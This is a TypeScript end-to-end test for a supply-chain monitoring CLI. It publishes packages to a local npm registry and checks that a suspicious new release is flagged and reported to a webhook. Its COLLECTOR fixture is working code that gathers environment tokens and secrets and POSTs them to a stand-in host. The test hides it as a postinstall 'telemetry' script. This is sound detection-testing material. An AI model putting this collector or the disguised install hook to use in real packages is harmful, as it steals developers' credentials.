/**
 * `watch` end to end against a real npm registry (Verdaccio on loopback): an inventory's dependency
 * becomes a target, the first poll records a baseline, a new version published afterwards is
 * analysed once, its events reach a webhook once, and a second round neither repeats nor resends.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startRegistry, type LocalRegistry } from '../helpers/registry.js'
import { cli } from './helpers/cli.js'
import { startWebhook, type Webhook } from './helpers/webhook.js'
import { WatchStore } from '../../src/watch/store/store.js'
import type { Notification } from '../../src/watch/notify.js'

let registry: LocalRegistry
let webhook: Webhook
let root: string
let db: string
const common = () => ['--db', db, '--cache-dir', join(root, 'cache')]

/** An installer that collects tokens from the environment and posts them to a host assembled at run time. */
const COLLECTOR = `const http = require('http')
const keys = Object.keys(process.env).filter((k) => /TOKEN|SECRET|KEY/.test(k))
const payload = JSON.stringify(keys.map((k) => [k, process.env[k]]))
const target = ['collect', 'metrics', 'invalid'].join('.')
const req = http.request({ host: target, port: 80, path: '/v', method: 'POST' })
req.write(payload)
req.end()
`

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'stagelight-watch-npm-'))
  db = join(root, 'watch.sqlite')
  registry = await startRegistry()
  webhook = await startWebhook()
  await registry.publish('alice', { name: 'quiet-colours', version: '1.0.0', main: 'index.js', repository: 'github:alice/quiet-colours' }, { 'index.js': 'module.exports = (s) => s\n' })
  // the project's .npmrc names the registry: watch must honour it, as npm does
  writeFileSync(join(root, '.npmrc'), `registry=${registry.url}\n`)
  writeFileSync(
    join(root, 'package-lock.json'),
    JSON.stringify({
      name: 'app',
      version: '1.0.0',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': { name: 'app', version: '1.0.0', dependencies: { 'quiet-colours': '^1.0.0' } },
        'node_modules/quiet-colours': { version: '1.0.0', resolved: `${registry.url}quiet-colours/-/quiet-colours-1.0.0.tgz` },
      },
    }),
  )
}, 900_000)

afterAll(async () => {
  await registry?.stop()
  await webhook?.close()
  rmSync(root, { recursive: true, force: true })
})

describe('watch with an npm registry', () => {
  it('turns an inventory’s dependency into a target and records a baseline on the first round', async () => {
    const add = await cli(['watch', 'add', 'inventory', 'package-lock.json', ...common()], root)
    expect(add.code).toBe(0)
    expect(add.stdout).toMatch(/1 packages, 1 watched targets/)
    const first = await cli(['watch', 'run', '--once', '--webhook', webhook.url, ...common()], root)
    expect(first.code, first.stderr).toBe(0)
    expect(first.stderr).toContain('1 first polls: baseline recorded')
    expect(first.stderr).toContain('0 jobs queued')
    const list = JSON.parse((await cli(['watch', 'list', '--format', 'json', ...common()], root)).stdout) as { targets: { key: string; polledAt?: string }[] }
    expect(list.targets.map((t) => t.key)).toEqual(['npm:quiet-colours'])
    expect(list.targets[0]?.polledAt).toBeDefined()
  })

  it('analyses a version published later, once, and sends its serious events to the webhook once', async () => {
    await registry.publish(
      'mallory',
      { name: 'quiet-colours', version: '1.0.1', main: 'index.js', repository: 'github:mallory/quiet-colours', scripts: { postinstall: 'node lib/telemetry.js' } },
      { 'index.js': 'module.exports = (s) => s\n', 'lib/telemetry.js': COLLECTOR },
    )
    const second = await cli(['watch', 'run', '--once', '--webhook', webhook.url, ...common()], root)
    expect(second.code, second.stderr).toBe(0)
    expect(second.stderr).toContain('1 new releases, 2 jobs queued; 2 done')

    const events = JSON.parse((await cli(['watch', 'events', '--format', 'json', ...common()], root)).stdout) as { events: { ruleId: string; severity: string; version: string; analysis: string }[] }
    const rules = events.events.map((e) => e.ruleId)
    expect(rules).toContain('watch/install-script-added')
    expect(rules).toContain('watch/repository-changed')
    expect(events.events.every((e) => e.version === '1.0.1')).toBe(true)
    expect(events.events.some((e) => e.analysis === 'scan' && (e.severity === 'high' || e.severity === 'critical'))).toBe(true)

    expect(webhook.bodies).toHaveLength(1)
    const sent = webhook.bodies[0] as Notification
    expect(sent.events.map((e) => e.ruleId)).toContain('watch/install-script-added')
    // only events at or above the default threshold (high) are sent
    expect(sent.events.every((e) => e.severity === 'high' || e.severity === 'critical')).toBe(true)

    const report = await cli(['watch', 'report', 'npm:quiet-colours|1.0.1|signals', '--format', 'json', ...common()], root)
    expect(JSON.parse(report.stdout)).toMatchObject({ command: 'watch signals', subject: { package: 'quiet-colours@1.0.1', previous: '1.0.0' } })
  })

  it('repeats nothing on the next round: no job, no new event, nothing resent', async () => {
    const store = await WatchStore.open(db)
    const before = (await store.events()).length
    await store.close()
    const third = await cli(['watch', 'run', '--once', '--webhook', webhook.url, ...common()], root)
    expect(third.stderr).toContain('0 new releases, 0 jobs queued')
    const after = await WatchStore.open(db)
    expect((await after.events()).length).toBe(before)
    expect(await after.jobCounts()).toMatchObject({ queued: 0, running: 0, dead: 0, done: 2 })
    await after.close()
    expect(webhook.bodies).toHaveLength(1)
  })

  it('reports a dist-tag moved back to an older version', async () => {
    const config = await registry.userConfig('alice')
    const { execFileSync } = await import('node:child_process')
    execFileSync('npm', ['dist-tag', 'add', 'quiet-colours@1.0.0', 'latest', '--userconfig', config, '--registry', registry.url], { cwd: root, env: { ...process.env, npm_config_cache: join(root, 'npm-cache') } })
    await cli(['watch', 'run', '--once', ...common()], root)
    const events = JSON.parse((await cli(['watch', 'events', '--format', 'json', ...common()], root)).stdout) as { events: { ruleId: string; message: string }[] }
    expect(events.events.find((e) => e.ruleId === 'watch/dist-tag-moved-back')?.message).toContain('"latest" moved from 1.0.1 to 1.0.0')
  })

  it('answers usage errors with exit 2 and one line', async () => {
    const bad = await cli(['watch', 'add', 'npm', 'Not A Name', ...common()], root)
    expect(bad.code).toBe(2)
    expect(bad.stderr.split('\n')[0]).toBe('stagelight: error: not an npm package name: "Not A Name"')
    expect(bad.stderr).not.toMatch(/\n\s+at /)
    const worker = await cli(['watch', 'worker', ...common()], root)
    expect(worker.code).toBe(2)
    expect(worker.stderr).toContain('needs a PostgreSQL store')
  })
})
